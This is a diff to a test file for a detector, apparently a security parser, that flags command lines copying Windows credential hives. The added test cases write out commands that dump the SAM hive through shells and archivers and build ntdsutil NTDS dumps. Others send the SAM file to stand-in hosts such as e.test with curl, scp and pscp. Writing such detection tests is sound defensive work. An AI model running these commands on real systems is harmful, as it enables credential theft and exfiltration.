@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { readHiveCopy } from '../../../src/core/facts/hive-copy.ts';
 import { hiveOfFileName, hiveOfHiveFile } from '../../../src/core/facts/hive-file.ts';
 
+const raw = String.raw;
 const SHADOW = '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1';
 const SAM = 'C:\\Windows\\System32\\config\\SAM';
 
@@ -156,6 +157,46 @@ describe('the shell, the spelling and the switches of a copy', () => {
     [`cmd /c whoami & copy ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', false],
     [`tar -cf a.tar ${SAM}`, 'tar', 'a.tar', false],
     [`makecab ${SAM} C:\\t\\a-b.cab`, 'makecab', 'c:\\t\\a-b.cab', false],
+    // what a shell writes is where its arrow leads
+    [`cmd /c type ${SAM} > C:\\t\\s`, 'type', 'c:\\t\\s', false],
+    [`cmd /c type ${SAM} 2>nul 1>>"C:\\t o\\s" & whoami`, 'type', 'c:\\t o\\s', false],
+    [`cmd /c >C:\\t\\s type ${SAM}`, 'type', 'c:\\t\\s', false],
+    [`powershell -c "type ${SAM} >C:\\t\\s"`, 'type', 'c:\\t\\s', false],
+    [`cmd /c type ${SAM} >nul 2>C:\\e`, 'type', undefined, false],
+    [`cmd /c copy ${SAM} C:\\t\\s >C:\\log.txt`, 'copy', 'c:\\t\\s', false],
+    // the verb of an archiver is no file
+    [`7z a a.7z ${SAM}`, '7z', 'a.7z', false],
+    [`rar a -r C:\\t\\a.rar ${SAM}`, 'rar', 'c:\\t\\a.rar', false],
+    [`tar cf a.tar ${SAM}`, 'tar', 'a.tar', false],
+    [`wbadmin start backup -include:${SAM} -quiet`, 'wbadmin', undefined, false],
+    [`wbadmin start backup -backupTarget:D: -include:${SAM}`, 'wbadmin', 'd:', false],
+    [`wbadmin start recovery -items:${SAM} -recoveryTarget:D:\\`, 'wbadmin', 'd:\\sam', false],
+    // what is sent elsewhere leaves no file
+    [`curl -F f=@${SAM} https://e.test/u`, 'curl', undefined, false],
+    [`curl -F "f=@${SAM};type=text/plain" -H "A: b" https://e.test/u`, 'curl', undefined, false],
+    [`curl --data-binary @${SAM} https://e.test/u`, 'curl', undefined, false],
+    [`curl -T ${SAM} ftp://e.test/`, 'curl', undefined, false],
+    [`curl file:///${SAM} -o C:\\t\\s`, 'curl', 'c:\\t\\s', false],
+    [`curl -oC:\\t\\s file:///${SAM}`, 'curl', 'c:\\t\\s', false],
+    [`curl --output C:\\t\\s file:///${SAM}`, 'curl', 'c:\\t\\s', false],
+    [`scp ${SAM} kim@srv:/tmp/s`, 'scp', undefined, false],
+    [`pscp ${SAM} srv:`, 'pscp', undefined, false],
+    // a folder, with the name that the file has
+    [`cmd /c copy ${SAM} .`, 'copy', 'sam', false],
+    [`cmd /c copy ${SAM} ..`, 'copy', '..\\sam', false],
+    [`cmd /c copy ${SAM} C:\\t\\.`, 'copy', 'c:\\t\\sam', false],
+    [`xcopy /d ${SAM} D:\\o\\`, 'xcopy', 'd:\\o\\sam', false],
+    // started by the shell's own word
+    [`cmd /c start /b esentutl /y ${SAM} /d C:\\t\\s`, 'esentutl', 'c:\\t\\s', true],
+    [`cmd /c start "t" copy ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', true],
+    [`cmd /c call copy ${SAM} C:\\t\\s`, 'copy', 'c:\\t\\s', false],
+    [`powershell -c "start esentutl '/y ${SAM} /d C:\\t\\s'"`, 'esentutl', 'c:\\t\\s', true],
+    [
+      `powershell -c "Start-Process -FilePath esentutl -ArgumentList '/y','${SAM}','/d','C:\\t\\s'"`,
+      'esentutl',
+      'c:\\t\\s',
+      true,
+    ],
     [`xcopy ${SAM}`, 'xcopy', undefined, false],
     [`xcopy ${SAM} 2>nul`, 'xcopy', undefined, false],
     [`xcopy ${SAM} >nul`, 'xcopy', undefined, false],
@@ -253,9 +294,16 @@ describe('installation media of ntdsutil, by any beginning of its words', () => 
     });
   });
 
+  it('are made by words in escaped quotes as well', () => {
+    const line = raw`powershell -c "ntdsutil \"activate instance ntds\" \"ifm\" \"create full C:\t\" q q"`;
+    expect(readHiveCopy(line)).toMatchObject({ hives: ['NTDS', 'SYSTEM'], output: raw`c:\t` });
+  });
+
   it('are not made by another menu', () => {
     expect(readHiveCopy('ntdsutil "ac in ntds" "create full C:\\t" q')).toBeUndefined();
     expect(readHiveCopy('ntdsutil "ac in ntds" ifm q')).toBeUndefined();
+    expect(readHiveCopy('ntdsutil "ac i ntds" "create full C:\\t" q')).toBeUndefined();
+    expect(readHiveCopy('ntdsutil "ac in ntds" im "create full C:\\t" q')).toBeUndefined();
   });
 });
 
